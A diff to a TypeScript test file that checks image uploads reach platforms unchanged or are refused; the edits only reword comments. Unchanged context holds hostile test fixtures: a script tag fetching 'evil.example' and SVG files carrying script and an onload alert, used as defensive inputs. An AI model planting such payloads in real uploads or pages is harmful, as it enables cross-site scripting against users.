@@ -29,7 +29,7 @@ const LIMIT = 10 * MEGABYTE;
 
 let world: PlatformWorld;
 let wire: Awaited<ReturnType<typeof openWire>>;
-/** Hashes of the files that reached a platform which keeps them as they are. */
+/** Hashes of the files that reached a platform which stores them unchanged. */
 const arrived: string[] = [];
 let recorder: Awaited<ReturnType<typeof openWire>>;
 
@@ -97,7 +97,7 @@ const picture = async (width = 8, height = 8) => {
     .toBuffer();
   return new Uint8Array(made);
 };
-/** A picture with so many bytes behind it that it has this size. */
+/** A picture with so many appended bytes that it has this size. */
 async function sized(size: number): Promise<Uint8Array<ArrayBuffer>> {
   const bytes = new Uint8Array(size);
   for (let at = 0; at < size; at += 7) bytes[at] = at % 251;
@@ -139,7 +139,7 @@ describe('bytes arrive unchanged, or not at all', () => {
 
 const text = (content: string) => new TextEncoder().encode(content);
 const SCRIPT = '<script>fetch("https://evil.example")</script>';
-/** What is no image, whatever its first letters would like to be. */
+/** Files that are no images, whatever their first bytes claim. */
 const HOSTILE: Readonly<Record<string, () => Uint8Array>> = {
   svg: () => text(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`),
   'svg after a prologue': () => text(`<?xml version="1.0"?><!DOCTYPE svg><svg onload="alert(1)"/>`),
